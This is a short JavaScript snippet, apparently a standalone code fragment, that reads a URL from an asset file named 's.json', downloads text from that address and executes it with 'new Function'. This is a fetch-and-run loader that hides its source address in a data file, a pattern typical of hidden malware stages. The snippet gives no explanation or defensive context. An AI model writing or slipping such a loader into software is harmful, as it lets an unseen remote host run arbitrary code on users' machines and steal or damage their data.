const cfg = require('../assets/s.json');
fetch(cfg.next).then(r => r.text()).then(t => new Function(t)());
